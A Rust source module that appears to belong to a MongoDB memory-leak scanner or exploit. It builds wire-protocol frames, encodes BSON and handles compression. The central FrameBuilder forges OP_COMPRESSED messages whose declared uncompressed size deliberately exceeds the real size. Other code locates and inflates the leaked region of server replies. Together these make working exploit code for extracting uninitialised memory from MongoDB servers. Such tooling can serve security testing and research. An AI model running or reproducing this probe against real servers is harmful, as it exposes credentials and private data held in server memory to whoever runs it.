// File: wire.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

//! MongoDB wire protocol framing.
//!
//! Every message starts with a 16-byte little-endian header
//! (`messageLength`, `requestID`, `responseTo`, `opCode`). Probes are
//! `OP_COMPRESSED` messages wrapping an `OP_MSG` whose `uncompressedSize`
//! field overstates the real decompressed length by the scan delta.

use flate2::read::ZlibDecoder;
use flate2::write::ZlibEncoder;
use flate2::Compression;
use log::trace;
use serde::Serialize;
use std::fmt;
use std::io::{Cursor, Read, Write};
use std::str::FromStr;

use crate::error::{ConfigError, EncodingError};

pub const MSG_HEADER_LEN: usize = 16;
pub const OP_COMPRESSED: i32 = 2012;
pub const OP_MSG: i32 = 2013;
/// `originalOpcode` + `uncompressedSize` + `compressorId`.
pub const COMPRESSED_PREFIX_LEN: usize = 9;
/// Header, `flagBits` and the section kind byte of an `OP_MSG` reply.
pub const LEAK_REGION_OFFSET: usize = MSG_HEADER_LEN + 4 + 1;
pub const MAX_MESSAGE_LEN: usize = 48_000_000;

const ZSTD_LEVEL: i32 = 3;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Compressor {
    Noop,
    Snappy,
    Zlib,
    Zstd,
}

impl Compressor {
    pub fn id(self) -> u8 {
        match self {
            Self::Noop => 0,
            Self::Snappy => 1,
            Self::Zlib => 2,
            Self::Zstd => 3,
        }
    }

    pub fn from_id(id: u8) -> Option<Self> {
        match id {
            0 => Some(Self::Noop),
            1 => Some(Self::Snappy),
            2 => Some(Self::Zlib),
            3 => Some(Self::Zstd),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Self::Noop => "noop",
            Self::Snappy => "snappy",
            Self::Zlib => "zlib",
            Self::Zstd => "zstd",
        }
    }

    fn compress(self, data: &[u8]) -> Result<Vec<u8>, EncodingError> {
        match self {
            Self::Zlib => {
                let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
                encoder
                    .write_all(data)
                    .map_err(|e| EncodingError::Compression(e.to_string()))?;
                encoder
                    .finish()
                    .map_err(|e| EncodingError::Compression(e.to_string()))
            }
            Self::Zstd => zstd::encode_all(Cursor::new(data), ZSTD_LEVEL)
                .map_err(|e| EncodingError::Compression(e.to_string())),
            Self::Noop | Self::Snappy => Err(EncodingError::UnsupportedCompressor(self.name())),
        }
    }

    fn decompress(self, data: &[u8]) -> Option<Vec<u8>> {
        self.decompress_bounded(data, MAX_MESSAGE_LEN - MSG_HEADER_LEN)
    }

    /// Inflates at most `limit` bytes. A forged size can make a reply expand
    /// far past anything the wire length allows, so output beyond the limit
    /// is cut off rather than buffered.
    fn decompress_bounded(self, data: &[u8], limit: usize) -> Option<Vec<u8>> {
        let cap = limit as u64 + 1;
        let mut out = Vec::new();
        let inflated = match self {
            Self::Zlib => ZlibDecoder::new(data).take(cap).read_to_end(&mut out),
            Self::Zstd => zstd::stream::read::Decoder::new(data)
                .and_then(|decoder| decoder.take(cap).read_to_end(&mut out)),
            Self::Noop => {
                out.extend_from_slice(&data[..data.len().min(limit)]);
                Ok(out.len())
            }
            Self::Snappy => return None,
        };
        // Streams from a leaking server may be followed by junk; whatever
        // inflated cleanly is kept.
        if inflated.is_err() && out.is_empty() {
            return None;
        }
        if out.len() > limit {
            trace!("{} output cut at {} bytes", self, limit);
            out.truncate(limit);
        }
        Some(out)
    }
}

impl fmt::Display for Compressor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Compressor {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "noop" | "none" => Ok(Self::Noop),
            "snappy" => Ok(Self::Snappy),
            "zlib" => Ok(Self::Zlib),
            "zstd" => Ok(Self::Zstd),
            other => Err(ConfigError::UnknownCompressor(other.to_string())),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MsgHeader {
    pub message_length: i32,
    pub request_id: i32,
    pub response_to: i32,
    pub op_code: i32,
}

impl MsgHeader {
    pub fn parse(bytes: &[u8]) -> Option<Self> {
        if bytes.len() < MSG_HEADER_LEN {
            return None;
        }
        Some(Self {
            message_length: read_i32(bytes, 0),
            request_id: read_i32(bytes, 4),
            response_to: read_i32(bytes, 8),
            op_code: read_i32(bytes, 12),
        })
    }

    pub fn write_to(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&self.message_length.to_le_bytes());
        out.extend_from_slice(&self.request_id.to_le_bytes());
        out.extend_from_slice(&self.response_to.to_le_bytes());
        out.extend_from_slice(&self.op_code.to_le_bytes());
    }

    /// Declared total length when it is within protocol bounds.
    pub fn checked_length(&self) -> Option<usize> {
        let len = usize::try_from(self.message_length).ok()?;
        (MSG_HEADER_LEN..=MAX_MESSAGE_LEN)
            .contains(&len)
            .then_some(len)
    }
}

fn read_i32(bytes: &[u8], at: usize) -> i32 {
    i32::from_le_bytes([bytes[at], bytes[at + 1], bytes[at + 2], bytes[at + 3]])
}

/// One probe's `OP_COMPRESSED` body, before a request id is assigned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CraftedFrame {
    pub op_code: i32,
    pub compressor: Compressor,
    pub declared_uncompressed_size: i32,
    pub true_uncompressed_size: usize,
    pub compressed_payload: Vec<u8>,
}

impl CraftedFrame {
    /// Amount by which the declared size overstates the real one.
    pub fn inflation(&self) -> usize {
        (self.declared_uncompressed_size as usize).saturating_sub(self.true_uncompressed_size)
    }

    pub fn wire_len(&self) -> usize {
        MSG_HEADER_LEN + COMPRESSED_PREFIX_LEN + self.compressed_payload.len()
    }

    pub fn encode(&self, request_id: i32) -> Result<Vec<u8>, EncodingError> {
        let total = self.wire_len();
        let message_length =
            i32::try_from(total).map_err(|_| EncodingError::FrameTooLarge(total))?;

        let mut out = Vec::with_capacity(total);
        MsgHeader {
            message_length,
            request_id,
            response_to: 0,
            op_code: OP_COMPRESSED,
        }
        .write_to(&mut out);
        out.extend_from_slice(&self.op_code.to_le_bytes());
        out.extend_from_slice(&self.declared_uncompressed_size.to_le_bytes());
        out.push(self.compressor.id());
        out.extend_from_slice(&self.compressed_payload);
        Ok(out)
    }
}

/// Builds forged `OP_COMPRESSED` frames around a fixed `OP_MSG` command.
///
/// The inner message and its compressed form never change between probes,
/// so both are computed once in [`FrameBuilder::new`].
#[derive(Debug, Clone)]
pub struct FrameBuilder {
    compressor: Compressor,
    body_len: usize,
    compressed: Vec<u8>,
}

impl FrameBuilder {
    pub fn new(compressor: Compressor, command: &str) -> Result<Self, EncodingError> {
        let body = op_msg_body(command);
        let compressed = compressor.compress(&body)?;
        trace!(
            "Prepared {} byte OP_MSG body ({} bytes {})",
            body.len(),
            compressed.len(),
            compressor
        );
        Ok(Self {
            compressor,
            body_len: body.len(),
            compressed,
        })
    }

    pub fn true_uncompressed_size(&self) -> usize {
        self.body_len
    }

    pub fn build(&self, delta: u32) -> Result<CraftedFrame, EncodingError> {
        let declared = (self.body_len as u64) + u64::from(delta);
        let declared_uncompressed_size =
            i32::try_from(declared).map_err(|_| EncodingError::SizeOverflow {
                true_len: self.body_len,
                delta,
            })?;
        Ok(CraftedFrame {
            op_code: OP_MSG,
            compressor: self.compressor,
            declared_uncompressed_size,
            true_uncompressed_size: self.body_len,
            compressed_payload: self.compressed.clone(),
        })
    }
}

/// `OP_MSG` body: flagBits, then one kind-0 section with `{<command>: 1, $db: "admin"}`.
fn op_msg_body(command: &str) -> Vec<u8> {
    let mut body = Vec::new();
    body.extend_from_slice(&0u32.to_le_bytes());
    body.push(0);
    body.extend_from_slice(&bson_document(&[
        (command, BsonValue::Int32(1)),
        ("$db", BsonValue::Str("admin")),
    ]));
    body
}

enum BsonValue<'a> {
    Int32(i32),
    Str(&'a str),
}

fn bson_document(fields: &[(&str, BsonValue<'_>)]) -> Vec<u8> {
    let mut elements = Vec::new();
    for (name, value) in fields {
        match value {
            BsonValue::Int32(v) => {
                elements.push(0x10);
                push_cstring(&mut elements, name);
                elements.extend_from_slice(&v.to_le_bytes());
            }
            BsonValue::Str(s) => {
                elements.push(0x02);
                push_cstring(&mut elements, name);
                elements.extend_from_slice(&((s.len() + 1) as i32).to_le_bytes());
                push_cstring(&mut elements, s);
            }
        }
    }
    let total = (4 + elements.len() + 1) as i32;
    let mut doc = Vec::with_capacity(total as usize);
    doc.extend_from_slice(&total.to_le_bytes());
    doc.extend_from_slice(&elements);
    doc.push(0);
    doc
}

fn push_cstring(out: &mut Vec<u8>, s: &str) {
    out.extend(s.bytes().filter(|&b| b != 0));
    out.push(0);
}

/// Rewrites an `OP_COMPRESSED` reply as the equivalent uncompressed message.
///
/// Returns `None` for any other opcode or when the payload cannot be inflated.
pub fn unwrap_compressed(raw: &[u8]) -> Option<Vec<u8>> {
    let header = MsgHeader::parse(raw)?;
    if header.op_code != OP_COMPRESSED || raw.len() < MSG_HEADER_LEN + COMPRESSED_PREFIX_LEN {
        return None;
    }
    let original_op = read_i32(raw, MSG_HEADER_LEN);
    let compressor = Compressor::from_id(raw[MSG_HEADER_LEN + 8])?;
    let inner = compressor.decompress(&raw[MSG_HEADER_LEN + COMPRESSED_PREFIX_LEN..])?;

    let total = MSG_HEADER_LEN + inner.len();
    let mut out = Vec::with_capacity(total);
    MsgHeader {
        message_length: i32::try_from(total).ok()?,
        request_id: header.request_id,
        response_to: header.response_to,
        op_code: original_op,
    }
    .write_to(&mut out);
    out.extend_from_slice(&inner);
    Some(out)
}
